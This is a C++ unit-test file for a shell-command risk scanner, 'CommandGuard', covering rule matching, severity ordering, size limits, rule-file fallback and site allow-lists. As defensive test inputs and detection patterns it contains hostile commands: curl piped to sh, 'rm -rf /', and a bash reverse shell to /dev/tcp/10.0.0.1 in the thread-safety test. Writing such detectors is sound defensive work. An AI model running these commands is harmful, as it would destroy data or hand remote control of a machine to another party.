// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/guard/CommandGuard.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>
#include <thread>
#include <tuple>
#include <utility>
#include <vector>

#include "core/guard/RelaxedPattern.h"
#include "core/guard/RuleBundle.h"
#include "tests/guard/GuardTestSupport.h"
#include "tests/support/CaseTable.h"

namespace tessaril {
namespace {

using Severity = CommandRiskSeverity;
using Strings = std::vector<std::string>;

std::string rulesFile(const std::string& version, const std::vector<RuleDefinition>& rules) {
    return RuleBundle{version, rules}.toJson().dump();
}

RuleDefinition rule(std::string id, Severity severity, std::string pattern) {
    std::string summary = "summary of " + id;
    return {std::move(id), "bash", severity, std::move(pattern), std::move(summary), "explanation"};
}

CommandGuard guardWith(const std::vector<RuleDefinition>& rules) {
    return CommandGuard::fromRulesData(rulesFile("1.0", rules));
}

Strings ids(const std::optional<CommandRiskResult>& result) {
    Strings out;
    for (const auto& finding : result ? result->findings : std::vector<CommandRiskFinding>{})
        out.push_back(finding.id);
    return out;
}

TEST(CommandGuard, ContinuationsAreJoinedAndTheCommandTrimmed) {
    const auto guard = guardWith({rule("pipe", Severity::warning, "curl [^ ]+ \\| sh")});
    for (const char* text : {"curl x | sh", "curl\\\nx | sh", "curl\\\r\nx | sh", "curl`\nx | sh", "curl`\r\nx | sh",
                             "  \n\tcurl x | sh \r\n "}) {
        const auto result = guard.analyze(text);
        ASSERT_TRUE(result.has_value()) << text;
        EXPECT_EQ(result->command, "curl x | sh") << text;
        EXPECT_EQ(result->findings.at(0).matchedText, "curl x | sh") << text;
    }
    // A bare line break is not a continuation.
    for (const char* text : {"curl\nx | sh", "", " \n\t\r\n \xE2\x80\x83"})
        EXPECT_FALSE(guard.analyze(text).has_value()) << text;
    EXPECT_EQ(CommandGuard::normalizedCommand("a\\\\\nb"), "a\\ b");
}

// A rule that matches the command and its views gives one finding, the first; rules that only match
// a view name it.
TEST(CommandGuard, ARuleMatchingSeveralViewsGivesOneFinding) {
    const auto guard = guardWith({rule("curl", Severity::warning, "curl"), rule("glued", Severity::danger, "c.u.rl")});
    const auto result = guard.analyze(R"(c"u"rl x; curl y)");
    ASSERT_TRUE(result.has_value());
    ASSERT_EQ(ids(result), (Strings{"glued", "curl"}));
    EXPECT_EQ(result->findings[0].view, "");
    EXPECT_EQ(result->findings[1].view, "");
    EXPECT_EQ(result->findings[1].matchedText, "curl");
    const auto viewOnly = guard.analyze(R"(c"u"rl x; c'u'rl y)");
    ASSERT_EQ(ids(viewOnly), (Strings{"glued", "curl"}));
    EXPECT_EQ(viewOnly->findings[1].view, "unquoted");
}

// A rule's looser form must find something wherever its pattern matches, white space read as a space
// included, and still rule out texts that lack what the pattern needs; a text with other control
// bytes is left to ICU.
TEST(CommandGuard, LooserFormsRuleOutOnlyTextsThePatternCannotMatch) {
    const std::tuple<std::string, std::string, bool> cases[] = {
        {"a[^ b]++b", "a\n\tb", true},
        {"a\\sb\\n", "a\tb\n", true},
        {"\\b(a)\\1(?=c)", "aac", true},
        {"(?<q>['\"])x\\k<q>", "echo 'x'", true},
        {"(?i)x\\p{L}[\\p{L}]{2,3}y$", "XaBcY", true},
        {"(?>ab|a)c[^\\n;&|]{0,2}?", "ac;", true},
        {"\\bcurl\\b[^\\n]{0,40}?http://\\d", "curl -s https://x/1", false},
        {"(?i)\\bwget\\b", "curl\nwge t", false},
        {"rm\\s+-rf\\s+/(?!tmp)", "rm  -f /", false},
    };
    for (const auto& [pattern, text, mayMatch] : cases) {
        const auto relaxed = relaxed_pattern::fromPattern(pattern);
        const auto relaxedText = relaxed_pattern::relaxedText(text);
        ASSERT_TRUE(relaxed && relaxedText) << pattern;
        EXPECT_EQ(Regex::compile(pattern)->firstMatch(text).has_value(), mayMatch) << pattern;
        CompiledRule::RelaxedScreen screen(*relaxed);
        EXPECT_EQ(screen.mayMatch(*relaxedText), mayMatch) << pattern << " as " << *relaxed;
    }
    EXPECT_FALSE(relaxed_pattern::relaxedText("a\vb").has_value());
    EXPECT_FALSE(relaxed_pattern::relaxedText("caf\xC3\xA9").has_value());
    EXPECT_FALSE(relaxed_pattern::fromPattern("a(?s:.)b").has_value());
}

// One problem, one finding: a rule gives way to one it is superseded by, when that one reports too.
TEST(CommandGuard, ASupersededRuleGivesWayToThePreciseOne) {
    auto broad = rule("broad", Severity::warning, "curl \\S+");
    broad.supersededBy = {"precise", "not-in-file"};
    const auto guard =
        guardWith({broad, rule("precise", Severity::danger, "curl http://\\d"), rule("other", Severity::info, "x")});
    EXPECT_EQ(ids(guard.analyze("curl http://1.2.3.4/x")), Strings{"precise"});
    EXPECT_EQ(ids(guard.analyze("curl https://example.com/x")), Strings{"broad"});
    EXPECT_EQ(ids(guard.analyze("curl http://1.2.3.4/x x", Severity::info)), (Strings{"precise", "other"}));
    const auto decoded = RuleBundle::decode(rulesFile("1", {broad}));
    ASSERT_TRUE(decoded.has_value());
    EXPECT_EQ(decoded->rules.at(0).supersededBy, (Strings{"precise", "not-in-file"}));
}

// Findings at or above the threshold, the most severe first, then by identifier.
TEST(CommandGuard, ThresholdAndOrderOfFindings) {
    const auto guard = guardWith({rule("note", Severity::info, "sudo"), rule("pipe", Severity::warning, "\\| sh"),
                                  rule("b", Severity::warning, "@@"), rule("a", Severity::warning, "@@"),
                                  rule("wipe", Severity::danger, "rm -rf /"), rule("z", Severity::danger, "@@")});
    EXPECT_EQ(ids(guard.analyze("sudo ls")), Strings{});
    EXPECT_EQ(ids(guard.analyze("curl x | sh", Severity::danger)), Strings{});
    EXPECT_EQ(ids(guard.analyze("curl x | sh")), Strings{"pipe"});
    const auto everything = guard.analyze("sudo curl x | sh; sudo rm -rf /", Severity::info);
    EXPECT_EQ(ids(everything), (Strings{"wipe", "pipe", "note"}));
    EXPECT_EQ(everything->severity, Severity::danger);
    EXPECT_EQ(everything->rulesVersion, "1.0");
    EXPECT_EQ(ids(guard.analyze("@@", Severity::info)), (Strings{"z", "a", "b"}));
    EXPECT_EQ(guard.analyze("@@")->primaryFinding()->id, "z");
}

// The size limit is on the text as examined: after trimming, with every malformed byte counted as
// the replacement character (three bytes) it becomes. Only the product's own output is inert,
// judged as pasted: every line after the header a comment as neutralizedCommand writes it.
TEST(CommandGuard, SizeLimitAndOwnOutputAreNotExamined) {
    const auto guard = guardWith({rule("any", Severity::warning, "rm")});
    const std::string atLimit = "rm " + std::string(CommandGuard::maximumCommandBytes - 3, 'x');
    EXPECT_TRUE(guard.analyze(atLimit).has_value());
    EXPECT_FALSE(guard.analyze(atLimit + "x").has_value());
    EXPECT_TRUE(guard.analyze(std::string(40000, ' ') + "rm -rf /" + std::string(40000, '\n')).has_value());
    std::string broken = "rm " + std::string(CommandGuard::maximumCommandBytes - 13, 'x') + std::string(10, '\xFF');
    EXPECT_FALSE(guard.analyze(broken).has_value());
    EXPECT_FALSE(CommandGuard::examinedCommand(broken).has_value());
    broken.erase(broken.size() - 30, 20);  // 20 fewer bytes: 32,748 plus 20 for the repair
    EXPECT_EQ(guard.analyze(broken)->command.size(), CommandGuard::maximumCommandBytes);
    // A NUL is kept; malformed bytes are repaired, so the verdict is valid UTF-8 for JSON.
    EXPECT_EQ(guard.analyze(std::string("rm -rf /\0 x", 11))->command, std::string("rm -rf /\0 x", 11));
    EXPECT_EQ(guard.analyze("\xFF\xFE rm \xC3")->command, "\xEF\xBF\xBD\xEF\xBF\xBD rm \xEF\xBF\xBD");

    const std::string header(CommandGuard::neutralizedHeader);
    const std::pair<std::string, bool> texts[] = {
        // (That whatever neutralizedCommand writes passes, and a live line after it does not,
        // fuzz/CommandGuardFuzzer.cpp checks.)
        {"\n  " + CommandGuard::neutralizedCommand("rm -rf /\n\nrm -rf ~\r\nx\ry \\\nrm"), false},
        {"echo hi\n" + CommandGuard::neutralizedCommand("rm -rf /"), true},
        {header + "\nrm -rf /", true},
        {header + "rm -rf /", true},
        {header + "# a\rrm -rf /", true},     // a lone carriage return ends a line
        {header + "# a \\\nrm -rf /", true},  // a shell does not continue a comment
        {header + "# a `\r\nrm -rf /", true},
        {header + "#rm -rf /", true},
    };
    for (const auto& [text, flagged] : texts)
        EXPECT_EQ(guard.analyze(text).has_value(), flagged) << text;
}

TEST(CommandGuard, NeutralizedTextCommentsEveryLine) {
    const auto cases = testing::readCases("guard/neutralized.json");
    ASSERT_FALSE(cases.empty());
    for (const auto& row : cases)
        EXPECT_EQ(CommandGuard::neutralizedCommand(row[0].get<std::string>()),
                  std::string(CommandGuard::neutralizedHeader) + row[1].get<std::string>())
            << row[0];
}

TEST(CommandGuard, BrokenRulesFilesAndPatterns) {
    const auto mixed = guardWith({rule("bad", Severity::danger, "(unclosed"), rule("good", Severity::danger, "rm")});
    EXPECT_EQ(ids(mixed.analyze("rm")), Strings{"good"});
    EXPECT_FALSE(mixed.rulesProblem().has_value());

    using Problem = CommandGuard::RulesProblem;
    const std::tuple<std::optional<std::string>, std::string, Problem> unusable[] = {
        {std::nullopt, "unavailable", Problem::missing},
        {"", "unavailable", Problem::undecodable},
        {"{}", "unavailable", Problem::undecodable},
        {R"({"currentVersion":"1","rules":[{"id":"a","platform":"p","severity":"urgent","pattern":"rm",
            "summary":"s","explanation":"e"}]})",
         "unavailable", Problem::undecodable},
        {rulesFile("1", {}), "1", Problem::noRuleCompiles},
        {rulesFile("2", {rule("bad", Severity::danger, "(rm"), rule("worse", Severity::info, "[")}), "2",
         Problem::noRuleCompiles},
    };
    for (const auto& [data, version, problem] : unusable) {
        const auto broken = CommandGuard::fromRulesData(data);
        EXPECT_EQ(broken.rulesVersion(), version) << data.value_or("none");
        EXPECT_EQ(broken.rulesProblem(), problem) << data.value_or("none");
        EXPECT_FALSE(broken.analyze("rm -rf /", Severity::info).has_value());
    }
    // A version must show something.
    EXPECT_EQ(CommandGuard::ruleBundleVersion(rulesFile(" 2.0\n", {})), " 2.0\n");
    EXPECT_FALSE(CommandGuard::ruleBundleVersion(rulesFile(" \n\t", {})).has_value());
}

// The installed file is looked for under rules/active, then rules/previous, then the old
// command-guard/active; an explicit or installed file that is unusable gives way to the shipped one,
// which says which file it stands in for.
TEST(CommandGuard, InstalledFileElseShippedFile) {
    testing::TemporaryDirectory folder;
    const FixedPaths paths{folder.path()};
    const auto root = folder.path() / "data" / "com.orvellelabs.tessaril";
    const auto active = root / "rules/active/command-guard-rules.json";
    const auto previous = root / "rules/previous/command-guard-rules.json";
    const auto legacy = root / "command-guard/active/command-guard-rules.json";
    testing::writeFile(folder.path() / "bundle/command-guard-rules.json",
                       rulesFile("shipped", {rule("shipped", Severity::danger, "rm")}));
    const ResourceBundle bundle(folder.path() / "bundle");
    // The version a guard reports, which the quick look without compiling every rule agrees with.
    const auto version = [&paths](const ResourceBundle* from) {
        std::string compiled = CommandGuard(from, &paths).rulesVersion();
        EXPECT_EQ(CommandGuard::rulesVersionOf(from, &paths), compiled);
        return compiled;
    };
    EXPECT_EQ(version(&bundle), "shipped");
    EXPECT_EQ(version(nullptr), "unavailable");
    EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), legacy);
    testing::writeFile(legacy, rulesFile("legacy", {rule("legacy", Severity::danger, "(")}));
    EXPECT_EQ(version(&bundle), "shipped");
    testing::writeFile(legacy, rulesFile("legacy", {rule("legacy", Severity::danger, "rm")}));
    EXPECT_EQ(version(&bundle), "legacy");
    testing::writeFile(previous, rulesFile("previous", {rule("previous", Severity::danger, "rm")}));
    for (const std::string& unusable : {rulesFile("  ", {}), std::string("not json")}) {
        testing::writeFile(active, unusable);
        EXPECT_EQ(CommandGuard::defaultInstalledRulesURL(paths), previous);
    }
    testing::writeFile(active, rulesFile("active", {rule("installed", Severity::danger, "rm")}));
    EXPECT_EQ(ids(CommandGuard(&bundle, &paths).analyze("rm")), Strings{"installed"});

    const auto explicitFile = testing::writeFile(folder.path() / "mine.json", "{}");
    for (const auto& [content, problem] : {std::pair{rulesFile("mine", {}), CommandGuard::RulesProblem::noRuleCompiles},
                                           {R"({"currentVersion":"x"})", CommandGuard::RulesProblem::undecodable}}) {
        testing::writeFile(explicitFile, content);
        const CommandGuard fallback(&bundle, &paths, explicitFile);
        EXPECT_EQ(fallback.rulesVersion(), "shipped");
        ASSERT_TRUE(fallback.passedOverInstalledRules().has_value());
        EXPECT_EQ(fallback.passedOverInstalledRules()->file, explicitFile);
        EXPECT_EQ(fallback.passedOverInstalledRules()->problem, problem);
    }
}

TEST(CommandGuard, SharedGuardAnswersFromSeveralThreads) {
    const auto guard = testing::shippedGuard();
    std::vector<int> flagged(4, 0);
    {
        std::vector<std::jthread> threads;
        for (std::size_t t = 0; t < flagged.size(); ++t) {
            threads.emplace_back([&guard, &count = flagged[t]] {
                for (int i = 0; i < 50; ++i)
                    count += guard.analyze("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1") && !guard.analyze("git status");
            });
        }
    }
    EXPECT_EQ(flagged, std::vector<int>(4, 50));
}

// Each alternative of a top-level alternation must be met as a whole, so a text holding a fragment
// of one alternative and a fragment of another is skipped; bars inside groups, classes or escapes
// do not split, and a pattern that cannot be split for certain keeps the plain filter. Alternatives
// searched one by one find what the whole alternation finds: the leftmost match, the earlier
// alternative on a tie, and a back-reference keeps its group.
TEST(CommandGuard, AlternativesAreFilteredOneByOne) {
    const auto guard = guardWith({
        rule("split", Severity::danger, "(?i)(?:alpha|beta)\\s+x1|gamma(?:y2|z3)"),
        rule("escaped", Severity::danger, "a\\|b|c[|]d|e(?:f|g)h"),
        rule("flags", Severity::danger, "one(?x) two|three"),
    });
    const auto mayMatch = [&guard](std::size_t index, const std::string& text) {
        return guard.rules().at(index).mayMatch(text, RulePrefilter::foldForMatching(text));
    };
    EXPECT_EQ(guard.rules()[0].alternatives.size(), 2u);
    EXPECT_FALSE(mayMatch(0, "alpha gamma"));
    EXPECT_FALSE(mayMatch(0, "BETA z3"));
    EXPECT_EQ(guard.rules()[1].alternatives.size(), 3u);
    EXPECT_FALSE(mayMatch(1, "ab c eh"));
    EXPECT_TRUE(guard.rules()[2].alternatives.empty());
    for (const char* text : {"run BETA  X1 now", "gammaZ3", "a|b", "c|d", "egh", "three"})
        EXPECT_TRUE(guard.analyze(text).has_value()) << text;

    const auto searched = guardWith({
        rule("leftmost", Severity::danger, "zeta\\d|alpha|omega"),
        rule("tie", Severity::danger, "abc\\d|abc|omega"),
        rule("reference", Severity::danger, "(q)\\1|w(e)\\2|omega"),
    });
    const std::pair<std::string, std::string> matches[] = {
        {"alpha zeta1", "alpha"}, {"abc1", "abc1"}, {"abc abc2", "abc"}, {"wee qq", "wee"}};
    for (const auto& [text, matched] : matches) {
        const auto result = searched.analyze(text);
        ASSERT_TRUE(result.has_value()) << text;
        EXPECT_EQ(result->findings.at(0).matchedText, matched) << text;
    }
}

// A rule with a site list stands only when its group names an address outside the list: a listed
// host covers its subdomains, a listed path only addresses under it, and user information, a port
// or a listed name inside another host does not pass; a passed-over match gives way to a later one.
TEST(CommandGuard, SiteListsPassListedAddressesOnly) {
    RuleDefinition pipe =
        rule("pipe", Severity::danger, R"((?i)\bcurl\b(?<source>[^\n|]{1,200}?)\|\s*(?:sudo\s+)?sh\b)");
    pipe.exceptSites = RuleDefinition::SiteException{"vetted", "source"};
    RuleBundle bundle{"1", {pipe}};
    bundle.siteLists["vetted"] = {"rustup.rs", "GitHub.com/Homebrew", "203.0.113.9"};
    const auto guard = CommandGuard::fromRulesData(bundle.toJson().dump());
    ASSERT_EQ(guard.rules().size(), 1u);
    const auto texts = testing::readCases("guard/site-lists.json");
    ASSERT_FALSE(texts.empty());
    for (const auto& row : texts) {
        const auto result = guard.analyze(row[0].get<std::string>());
        ASSERT_EQ(result.has_value(), !row[1].is_null()) << row[0];
        if (result) {
            EXPECT_EQ(result->findings.at(0).matchedText, row[1].get<std::string>()) << row[0];
        }
    }
    // A group the pattern lacks leaves the rule out, as a pattern that does not compile does; a list
    // the file lacks or cannot read leaves the whole file out.
    pipe.exceptSites->group = "missing";
    EXPECT_TRUE(CommandGuard::fromRulesData(
                    RuleBundle{"1", {pipe, rule("x", Severity::info, "x")}, bundle.siteLists}.toJson().dump())
                    .rules()
                    .size() == 1);
    pipe.exceptSites = RuleDefinition::SiteException{"other", ""};
    EXPECT_EQ(CommandGuard::fromRulesData(RuleBundle{"1", {pipe}, bundle.siteLists}.toJson().dump()).rulesProblem(),
              CommandGuard::RulesProblem::malformedSiteList);
}

}  // namespace
}  // namespace tessaril
